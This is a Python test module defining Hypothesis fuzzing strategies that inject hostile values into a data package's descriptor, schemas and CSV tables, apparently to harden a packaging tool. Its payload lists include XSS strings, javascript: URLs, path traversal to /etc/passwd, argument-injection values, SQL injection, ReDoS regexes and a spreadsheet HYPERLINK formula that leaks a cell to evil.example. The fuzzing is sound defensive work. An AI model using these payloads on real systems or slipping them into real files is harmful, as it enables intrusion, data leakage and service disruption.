"""Hypothesis strategies for hostile package content, and how to apply them to a package copy.

A variant of the tiny package (:mod:`tests.fuzz.tiny`) is a list of edits, each one thing a fork,
a pull request or a stranger's package could hold: a descriptor value of any JSON type (deep
nesting, huge strings, control and bidi characters, path-like names, ``javascript:`` URLs,
format placeholders), a schema entry (catastrophic or unsupported patterns, wrong types, broken
keys), a table cell (formulas, invisible characters, a cell past every cap) or a whole table file
(bad bytes, a broken quote, nothing at all). ``{OUTSIDE}`` in a value is replaced by the path of
the sentinel folder beside the package, so that an absolute or climbing name aims at a file the
test watches.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from hypothesis import strategies as st

from tests.fuzz.tiny import SCHEMAS, TABLES, csv_line

OUTSIDE = "{OUTSIDE}"
TEXTS = [
    "javascript:alert(document.domain)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>",
    "https://", "https://good.example@evil.example/", "//evil.example/x", "vbscript:msgbox(1)",
    "../../outside/owned", f"{OUTSIDE}/owned", "..", ".", "/etc/passwd", "C:\\Windows\\win.ini", "a/b", "-rf",
    "--output=/tmp/cac-fuzz-owned", "CON", "", " ", "tables", "dist",
    '=HYPERLINK("http://evil.example/?leak="&A2,"x")', "+1+1", "-1", "@SUM(1)", "\t=1", "\r=1",
    "Deputy Prime \u202eretsiniM", "a\u200bb", "\u2066x\u2069", "\ufeffbom", "\x00nul", "\x1b[2J", "\x85",
    "\u2028", "line\nbreak", "cr\rlf\r\n", "</script><script>alert(1)</script>", "<!--", "]]>", "&amp;",
    "{version.__class__.__init__}", "{0}", "{", "%s%n", "'; DROP TABLE things; --", '"quoted"', "\ud800",
    "\U0001d518\U0001d52b", "a" * 40 + "!", "x" * 200_000, "0.1.0", "1.0", "CC-BY-4.0\ndoi: 10.5281/zenodo.1",
]
PATTERNS = ["^(a+)+$", "^(a|aa)+$", "(?=a)a", "(?<!b)a", r"^(a)\1$", "[", "(", "a{99999}", "\\", "^.*.*.*=$",
            "(?i)ALPHA", "^[a-z]+$", ""]
text = st.sampled_from(TEXTS)
scalar = st.one_of(text, st.integers(-10**20, 10**20), st.floats(allow_nan=False), st.booleans(), st.none())


@dataclass(frozen=True)
class Deep:
    """A value nested ``depth`` lists deep, written out only in the JSON file (a Python structure
    that deep would break the printing of a failing example)."""

    depth: int
    leaf: str


json_value = st.one_of(  # mostly text, which passes the JSON-type checks and so reaches the commands' code
    text, text, text, text, text, text,
    scalar,
    st.lists(scalar, max_size=3),
    st.dictionaries(st.sampled_from(["name", "path", "title", "x"]), scalar, max_size=3),
    st.builds(Deep, st.sampled_from([64, 1_000, 100_000]), text),
)
DESCRIPTOR_KEYS = ["name", "title", "description", "version", "created", "homepage", "cac:download_base",
                   "keywords", "licenses", "contributors", "sources", "id", "resources", "$schema"]
RESOURCE_KEYS = ["name", "path", "title", "description", "schema", "format", "encoding", "mediatype"]
FIELD_KEYS = ["name", "type", "title", "description", "format", "multiline", "constraints", "categories"]
CONSTRAINTS = ["pattern", "maxLength", "minLength", "minimum", "maximum", "enum", "required", "unique"]
SCHEMA_KEYS = ["primaryKey", "foreignKeys", "fields", "missingValues"]
RAW_TABLES = [b"", b"\xff\xfe\x00bad", b"\xef\xbb\xbfthing_id,name,note,count\r\n", b'thing_id,name\n"unterminated\n',
              b"a,b,c,d,e,f\n1,2\n", b"\n\n\n"]
tables = st.sampled_from(sorted(SCHEMAS))

cell = st.tuples(st.just("cell"), tables, st.integers(1, 2), st.integers(0, 2), text)
edit = st.one_of(
    cell, cell, cell,
    st.tuples(st.just("descriptor"), st.sampled_from(DESCRIPTOR_KEYS), json_value),
    st.tuples(st.just("part"), st.sampled_from(["licenses", "contributors"]),
              st.sampled_from(["name", "path", "title", "roles"]), json_value),
    st.tuples(st.just("resource"), st.integers(0, 1), st.sampled_from(RESOURCE_KEYS), json_value),
    st.tuples(st.just("field"), tables, st.integers(0, 2), st.sampled_from(FIELD_KEYS), json_value),
    st.tuples(st.just("constraint"), tables, st.integers(0, 2), st.sampled_from(CONSTRAINTS),
              st.one_of(st.sampled_from(PATTERNS), scalar)),
    st.tuples(st.just("schema"), tables, st.sampled_from(SCHEMA_KEYS), json_value),
    st.tuples(st.just("raw"), tables, st.sampled_from(RAW_TABLES)),
)
variants = st.lists(edit, min_size=1, max_size=3)


def _fill(value: Any, outside: Path) -> Any:
    if isinstance(value, str):
        return value.replace(OUTSIDE, str(outside))
    if isinstance(value, list):
        return [_fill(v, outside) for v in value]
    if isinstance(value, dict):
        return {k: _fill(v, outside) for k, v in value.items()}
    return value


def apply(root: Path, edits: list[tuple[Any, ...]], outside: Path) -> None:
    """Write the edits into the package at ``root`` (descriptor and schemas as JSON, cells as CSV)."""
    descriptor = json.loads((root / "datapackage.json").read_text(encoding="utf-8"))
    schemas = {name: json.loads(json.dumps(schema)) for name, schema in SCHEMAS.items()}
    rows = {name: [list(r) for r in table] for name, table in TABLES.items()}
    raw: dict[str, bytes] = {}
    for kind, *args in edits:
        *where, value = args
        _edit(kind, where, _fill(value, outside), descriptor, schemas, rows, raw)
    _write_json(root / "datapackage.json", descriptor)
    for name, schema in schemas.items():
        _write_json(root / "schemas" / f"{name}.json", schema)
    for name, table in rows.items():
        data = raw.get(name) or "".join(csv_line(r) for r in table).encode("utf-8", "surrogatepass")
        (root / "tables" / f"{name}.csv").write_bytes(data)


def _edit(kind: str, where: list[Any], value: Any, descriptor: dict, schemas: dict, rows: dict, raw: dict) -> None:
    if kind in ("descriptor", "part", "resource"):
        _edit_descriptor(kind, where, value, descriptor)
    elif kind in ("field", "constraint", "schema"):
        _edit_schema(kind, where, value, schemas[where[0]])
    elif kind == "cell":
        table = rows[where[0]]
        row = table[min(where[1], len(table) - 1)]
        row[min(where[2], len(row) - 1)] = value
    elif kind == "raw":
        raw[where[0]] = value


def _edit_descriptor(kind: str, where: list[Any], value: Any, descriptor: dict) -> None:
    """A top-level value, or a key of the first licence or contributor or of a resource (skipped
    when an earlier edit replaced that list)."""
    if kind == "descriptor":
        descriptor[where[0]] = value
        return
    items, index = (descriptor.get(where[0]), 0) if kind == "part" else (descriptor.get("resources"), where[0])
    if isinstance(items, list) and len(items) > index and isinstance(items[index], dict):
        items[index][where[1]] = value


def _edit_schema(kind: str, where: list[Any], value: Any, schema: dict) -> None:
    if kind == "schema":
        schema[where[1]] = value
        return
    fld = _field(schema, where[1])
    if fld is None:
        return
    if kind == "field":
        fld[where[2]] = value
    elif isinstance(fld.setdefault("constraints", {}), dict):
        fld["constraints"][where[2]] = value


def _field(schema: dict[str, Any], index: int) -> dict[str, Any] | None:
    """The schema's field at ``index`` (or its last), None when an earlier edit broke the list."""
    fields = schema.get("fields")
    if not isinstance(fields, list) or not fields or not isinstance(fields[min(index, len(fields) - 1)], dict):
        return None
    return fields[min(index, len(fields) - 1)]


def _write_json(path: Path, data: Any) -> None:
    """JSON as a stranger may write it: ASCII escapes (so lone surrogates survive), and each
    :class:`Deep` value written out as its nesting."""
    deep: list[Deep] = []

    def marker(value: Any) -> str:
        if not isinstance(value, Deep):
            raise TypeError(type(value).__name__)
        deep.append(value)
        return f"\u0000DEEP{len(deep) - 1}\u0000"

    out = json.dumps(data, ensure_ascii=True, default=marker)
    for index, value in enumerate(deep):
        token = json.dumps(f"\u0000DEEP{index}\u0000", ensure_ascii=True)
        out = out.replace(token, "[" * value.depth + json.dumps(value.leaf, ensure_ascii=True) + "]" * value.depth)
    path.write_text(out, encoding="utf-8")
